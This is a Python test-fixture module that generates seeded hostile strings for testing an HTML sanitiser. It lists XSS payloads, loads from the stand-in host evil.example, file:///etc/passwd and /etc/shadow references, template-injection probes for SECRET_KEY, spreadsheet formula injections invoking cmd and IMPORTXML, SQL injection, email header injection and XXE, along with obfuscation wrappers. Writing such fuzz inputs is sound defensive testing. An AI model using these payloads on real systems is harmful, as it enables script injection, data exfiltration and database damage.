"""Hostile texts of our own making: same seed, same texts.

Each is put together of an attack, something that hides it, and something around it. What would run calls `pwned()`;
what would fetch asks `evil.example` or the file system.
"""

import random
from collections.abc import Callable

_SCRIPT = "pwned()"
_ATTACKS = (
    f"<script>{_SCRIPT}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_SCRIPT}>",
    "<img src=https://evil.example/x.png alt=x>",
    "<img src=file:///etc/passwd alt=x>",
    f"<svg onload={_SCRIPT}><path/></svg>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    "<svg><image href=https://evil.example/x.svg /></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_SCRIPT}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_SCRIPT}>'>",
    f"<a href='javascript:{_SCRIPT}'>läs</a>",
    f"<a href='java\tscript:{_SCRIPT}'>läs</a>",
    f"<a href='&#106;avascript:{_SCRIPT}'>läs</a>",
    f"<a href='data:text/html,<script>{_SCRIPT}</script>'>läs</a>",
    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=file:///etc/shadow>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>Spara</button></form>",
    f"<details open ontoggle={_SCRIPT}><summary>x</summary></details>",
    f"<input autofocus onfocus={_SCRIPT}>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    '<p style="content:url(file:///etc/passwd);position:fixed">x</p>',
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    "<figure data-live='measure:1' onclick=pwned()>x</figure>",
    "<figure><img src='file:///etc/hostname' alt='x'></figure>",
    f"<button data-hx-get=https://evil.example hx-trigger=load hx-on::load={_SCRIPT}>x</button>",
    f"<p id=innehall data-controller=x onmouseover={_SCRIPT}>x</p>",
    "{{ settings.SECRET_KEY }}",
    "{% include '/etc/passwd' %}{% load static %}",
    "{{ request.user.password }}{% debug %}",
    "%(person)s %s {0.__class__.__mro__} ${7*7} #{7*7}",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example";"Läs")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    '-2+3+IMPORTXML("https://evil.example";"//a")',
    "\t=1+1",
    "'; DROP TABLE measures_measure; --",
    '" OR 1=1 --',
    "Åsa\r\nBcc: offer@evil.example\r\n\r\nHej",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<![CDATA[<script>pwned()</script>]]>",
    "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "]]></script><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</title></head><body onload=pwned()>",
    "<xmp><script>pwned()</script></xmp><plaintext>",
    "https://evil.example/\u202egnp.exe",
    "\u0000\u0008\ufeff\ufffe<scr\u0000ipt>pwned()</script>",
)
_HIDINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text,
    str.upper,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;"),
    lambda text: text.replace("<", "<\n"),
    lambda text: text.replace("=", "\n=\n"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("script", "scr<script>ipt"),
    lambda text: text.replace(">", ""),
    lambda text: text.replace("'", '"'),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("o", "\u200bo"),
    lambda text: f"{text}{text[::-1]}",
)
_AROUND = (
    "{}",
    "Cykelväg {} till stationen",
    "<p>{}</p>",
    "<table><tr><td>{}</table>",
    "<ul><li>{}</ul>",
    "<h2>{}</h2>",
    "<blockquote>{}",
    "<a href='https://example.se'>{}</a>",
    "<strong><em>{}</strong></em>",
    '"{}',
    "'{}",
    "<p title='{}'>x</p>",
    "<!-- {} -->",
    "<textarea>{}",
)


def hostile(count: int, *, seed: str = "1") -> list[str]:
    """Return texts, every attack among them as soon as there are enough."""
    chance = random.Random(seed)
    return [_one(chance, _ATTACKS[turn % len(_ATTACKS)]) for turn in range(count)]


def _one(chance: random.Random, attack: str) -> str:
    text = chance.choice(_HIDINGS)(attack)
    if chance.random() < 0.2:
        place = chance.randrange(len(text))
        text = text[:place] + chance.choice(_ATTACKS) + text[place:]
    return chance.choice(_AROUND).replace("{}", text, 1)
